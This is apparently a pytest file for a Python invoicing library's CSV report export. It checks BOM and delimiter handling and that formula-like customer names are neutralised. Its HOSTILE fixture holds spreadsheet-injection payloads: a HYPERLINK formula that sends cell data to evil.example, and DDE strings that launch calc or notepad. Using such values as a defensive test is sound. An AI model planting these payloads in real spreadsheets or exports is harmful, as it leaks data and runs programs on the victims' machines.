"""Reports as CSV for a spreadsheet: UTF-8 with BOM, ';' or ',', formulas in text defused."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest
from click.testing import CliRunner

from paylink import Line, Paylink
from paylink import reports as r
from paylink.cli import main
from paylink.money import Money
from paylink.parties import Organization

HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+32 470 12 34 56",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!A1",
    "-1",
    "Zoë Müller; Fils, SA",
]


def read(path: Path, delimiter: str) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=delimiter))


@pytest.fixture
def hostile_customers(pl: Paylink, org: Organization) -> None:
    for number, name in enumerate(HOSTILE, start=1):
        customer = pl.customers.create(org, name=name)
        pl.invoices.issue(
            org,
            customer,
            lines=[
                Line(description="Work", quantity="1", unit_price=f"{number}00.50", vat_rate="0")
            ],
            issue_date=dt.date(2026, 1, 1),
            due_date=dt.date(2026, 1, 31),
        )


@pytest.mark.parametrize(("delimiter", "point"), [(";", ","), (",", ".")])
def test_hostile_customer_names_are_text_and_amounts_numbers(
    pl: Paylink,
    org: Organization,
    hostile_customers: None,
    tmp_path: Path,
    delimiter: str,
    point: str,
) -> None:
    report = pl.reports.customers(org)
    target = tmp_path / "customers.csv"
    report.to_csv(target, delimiter=delimiter)  # type: ignore[arg-type]
    header, *rows = read(target, delimiter)
    assert header == list(report.to_records()[0])
    names = {row[header.index("name")] for row in rows}
    assert names == {
        "'" + HOSTILE[0],
        "'" + HOSTILE[1],
        "'" + HOSTILE[2],
        "'" + HOSTILE[3],
        "'" + HOSTILE[4],
        "'" + HOSTILE[5],
        HOSTILE[6],
    }
    by_name = {row[header.index("name")]: row for row in rows}
    assert by_name[HOSTILE[6]][header.index("open_balance")] == f"700{point}50"
    assert by_name["'" + HOSTILE[0]][header.index("invoices")] == "1"


def test_a_negative_amount_stays_a_number() -> None:
    flow = r.cashflow(
        [
            (dt.date(2026, 2, 3), Money.of("10", "EUR")),
            (dt.date(2026, 2, 4), Money.of("-42.50", "EUR")),
        ],
        today=dt.date(2026, 2, 28),
        months=1,
        currency="EUR",
    )
    out = io.StringIO()
    flow.to_csv(out, delimiter=",", bom=False)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == ["month", "cash_in", "cash_out", "net", "provider_fees", "currency"]
    assert rows[1][1:4] == ["10.00", "42.50", "-32.50"]
    assert rows[1][0] == "2026-02-01"
    records = [
        {"label": "-refund", "amount": Decimal("-12.30"), "count": -1, "none": None},
        {"label": "\t=1+1", "amount": Decimal("+5"), "count": 0, "none": "\r=2"},
    ]
    binary = io.BytesIO()
    r.write_csv(records, binary)
    text = binary.getvalue().decode("utf-8")
    assert text == (
        "\ufefflabel;amount;count;none\r\n'-refund;-12,30;-1;\r\n'\t=1+1;5;0;\"'\r=2\"\r\n"
    )


def test_bad_separators_are_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="delimiter"):
        r.write_csv([], tmp_path / "x.csv", delimiter="\t")  # type: ignore[arg-type]
    with pytest.raises(ValueError, match="decimal"):
        r.write_csv([], tmp_path / "x.csv", delimiter=",", decimal=",")
    assert not (tmp_path / "x.csv").exists()


def test_the_cli_writes_the_csv(
    pl: Paylink, db_url: str, org: Organization, hostile_customers: None, tmp_path: Path
) -> None:
    target = tmp_path / "out.csv"
    runner = CliRunner()
    result = runner.invoke(
        main, ["report", "customers", "--db", db_url, "--csv", str(target), "--delimiter", ","]
    )
    assert result.exit_code == 0, result.output
    assert f"customers: {len(HOSTILE)} rows written to {target}" in result.output
    header, *rows = read(target, ",")
    assert header[:3] == ["organization", "customer_id", "name"]
    assert {row[0] for row in rows} == {org.name}
    assert sorted(row[2] for row in rows)[0].startswith("'")
    assert all(not row[2].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows)
    for name in ("aging", "cashflow", "dso"):
        done = runner.invoke(main, ["report", name, "--db", db_url, "--csv", str(target)])
        assert done.exit_code == 0, done.output
        assert read(target, ";")[0][0] == "organization"
    both = runner.invoke(main, ["report", "dso", "--db", db_url, "--csv", "x", "--json"])
    assert both.exit_code != 0 and "--csv" in both.output
